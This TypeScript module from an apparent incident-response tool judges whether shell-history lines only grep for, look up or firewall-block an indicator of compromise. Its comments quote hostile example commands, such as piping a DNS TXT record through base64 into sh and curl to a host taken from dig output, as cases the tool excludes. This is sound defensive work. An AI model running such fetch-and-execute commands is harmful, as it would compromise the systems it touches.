// Commands that look for an indicator rather than use it: an analyst grepping the logs for an address, looking a domain
// up, or blocking it at the firewall. An indicator named in a question that a host's shell history holds only in such
// commands is a sign that someone there hunted for it, not that the host talked to it (the eleventh blind corpus:
// an analyst's IOC searches in history were a medium finding on a clean host).
import { simpleCommands, type SimpleCommand } from "./command-lines.js";

/** Programs that only read: text and log searches, audit and login records, socket and packet listings. */
const SEARCHES: ReadonlySet<string> = new Set([
  "grep", "egrep", "fgrep", "zgrep", "zegrep", "zfgrep", "xzgrep", "bzgrep", "lzgrep", "zstdgrep", "rg", "ag", "ack", "ugrep",
  "ausearch", "aureport", "journalctl", "last", "lastb", "utmpdump", "ss", "conntrack", "lsof", "tcpdump", "tshark",
  "locate", "plocate", "mlocate",
]);

/** Programs that ask about a name or address without reaching it: DNS and registry lookups, GeoIP. */
const LOOKUPS: ReadonlySet<string> = new Set(["whois", "dig", "nslookup", "host", "drill", "kdig", "delv", "geoiplookup", "mmdblookup"]);

/** Firewall programs; a rule is a block only by its verdict, read with its comments taken out. */
const FIREWALLS: ReadonlySet<string> = new Set(["iptables", "ip6tables", "iptables-legacy", "iptables-nft", "ip6tables-legacy", "ip6tables-nft", "nft", "ufw", "firewall-cmd", "fail2ban-client"]);
/** `ipset add <set> <address>` into a set named as a blocklist. */
const IPSET_BLOCK = /^add\s+\S*(?:block|black|deny|ban|drop)/i;

/** Text filters a search's output goes through (`| sort | uniq -c | head`): they read, write only to the terminal. */
const FILTERS: ReadonlySet<string> = new Set(["sort", "uniq", "head", "tail", "wc", "cut", "tr", "less", "more", "cat", "zcat", "column", "jq", "nl", "rev", "fold"]);

/** Options with which a search program runs another program (`rg --pre`, `tcpdump -z`, find's -exec). */
const RUNS_A_PROGRAM = /(?:^|\s)(?:--pre(?:=|\s)|--filter(?:=|\s)|-z\s|-Z\s|-X\s|-(?:exec|execdir|ok|okdir)(?:\s|$)|--postrotate-command)/;

function words(cmd: SimpleCommand): string {
  return cmd.args.join(" ");
}

function blocks(cmd: SimpleCommand): boolean {
  const rule = (cmd.program === "nft" ? words(cmd).replace(/\bcomment\s+("[^"]*"|'[^']*'|\S+)/g, " ") : words(cmd).replace(/-m\s+comment\s+--comment\s+("[^"]*"|'[^']*'|\S+)/g, " "));
  if (/\b(?:accept|allow|dnat|snat|masquerade|redirect|tproxy)\b/i.test(rule) || /-t\s+nat\b/.test(rule)) return false;
  // Removing a block, or blocking everything but the address, opens the way to it.
  if (/(?:^|\s)(?:-D|--delete|delete|--remove-\S+|remove)(?:\s|=|$)/.test(rule) || /(?:^|\s)!(?:\s|=)|!=/.test(rule)) return false;
  switch (cmd.program) {
    case "ufw":
      return /^(?:insert\s+\d+\s+)?(?:deny|reject)\b/.test(rule);
    case "fail2ban-client":
      return /^set\s+\S+\s+banip\s/.test(rule);
    case "firewall-cmd":
      return /--zone=(?:drop|block)\b|\b(?:reject|drop)\b/.test(rule);
    case "nft":
      return /\s(?:drop|reject)(?:\s|$|;)/.test(` ${rule}`);
    default:
      return /(?:^|\s)-j\s+(?:DROP|REJECT)(?:\s|$)/.test(rule);
  }
}

/** A lookup that talks to the indicator as its server, or sends queries it reads from a file or its input. */
function lookupContacts(cmd: SimpleCommand): boolean {
  const a = cmd.args;
  if (a.some((w) => w.startsWith("@") || w === "-" || w === "-f" || w.startsWith("-f"))) return true;
  if (cmd.program === "whois" && a.some((w) => w === "-h" || w.startsWith("-h") || w === "--host")) return true;
  // nslookup NAME SERVER, host NAME SERVER: a second operand is the server asked.
  if (cmd.program === "nslookup" || cmd.program === "host") return a.filter((w) => !w.startsWith("-")).length > 1;
  return false;
}

function hunts(cmd: SimpleCommand): boolean {
  if (RUNS_A_PROGRAM.test(` ${words(cmd)}`)) return false;
  if (LOOKUPS.has(cmd.program)) return !lookupContacts(cmd);
  if (cmd.program === "find") return !/(?:^|\s)-(?:fprint\w*|fls|delete)(?:\s|$)/.test(words(cmd));
  if (SEARCHES.has(cmd.program)) return true;
  if (cmd.program === "ip") return /^route\s+(?:add|replace)\s+(?:blackhole|unreachable|prohibit)\s/.test(words(cmd));
  if (cmd.program === "ipset") return IPSET_BLOCK.test(words(cmd));
  return FIREWALLS.has(cmd.program) && blocks(cmd);
}

/** A filter of the search's output: awk only without system(), getline or a pipe of its own. */
function filters(cmd: SimpleCommand): boolean {
  if (cmd.program === "awk" || cmd.program === "gawk" || cmd.program === "mawk") return !/system|getline|[|>]/.test(cmd.raw);
  // sort -o and uniq's second operand write files.
  if (cmd.program === "sort") return !cmd.args.some((w) => w === "-o" || w.startsWith("-o") || w.startsWith("--output"));
  if (cmd.program === "uniq") return cmd.args.filter((w) => !w.startsWith("-")).length < 2;
  return FILTERS.has(cmd.program);
}

/** Output written anywhere but the terminal or /dev/null, a process substitution, or a pager of one's choosing. */
const WRITES_OR_RUNS = /[<>]\(|>{1,2}(?!\s*\/dev\/null\b|&\d)|\b(?:PAGER|LESSOPEN|LESSCLOSE|SYSTEMD_PAGER|MANPAGER)=|--pager\b/;

/**
 * Whether every simple command of `command` that mentions `indicator` searches for it, looks it up or blocks it
 * (`grep 203.0.113.7 /var/log/auth.log | tail`, `dig +short evil.example`, `iptables -I OUTPUT -d 203.0.113.7 -j DROP`).
 * Every other command of the line must be a search or a text filter of its output: a line that also fetches, runs,
 * connects or writes anything (`curl`, `nc`, `| sh`, `$(dig ...)`, `echo ... >> /etc/hosts`, `rg --pre`, a NAT rule, a
 * "drop" in a rule's comment) is not a hunt.
 */
export function onlyHuntsFor(command: string, indicator: string): boolean {
  return judgeLine(command)(indicator);
}

/** A line judged once: undefined when no indicator in it can be only hunted for, else the commands searching. */
function judgeLine(command: string): (indicator: string) => boolean {
  // Whatever runs with a lookup's answer (`dig TXT x | base64 -d | sh`, `curl http://$(dig +short x)/p`) is a use.
  if (/\$\(|`/.test(command) || WRITES_OR_RUNS.test(command)) return () => false;
  const cmds = simpleCommands(command);
  if (!cmds.every((c) => hunts(c) || filters(c))) return () => false;
  const lowered = cmds.map((c) => ({ raw: c.raw.toLowerCase(), hunt: hunts(c) }));
  return (indicator) => {
    const needle = indicator.toLowerCase();
    const naming = lowered.filter((c) => c.raw.includes(needle));
    return naming.length > 0 && naming.every((c) => c.hunt);
  };
}

/** `onlyHuntsFor` with each command line parsed once: a host's history is asked about for each indicator. */
export function huntChecker(): (command: string, indicator: string) => boolean {
  const lines = new Map<string, (indicator: string) => boolean>();
  return (command, indicator) => {
    let judge = lines.get(command);
    if (judge === undefined) {
      judge = judgeLine(command);
      lines.set(command, judge);
    }
    return judge(indicator);
  };
}
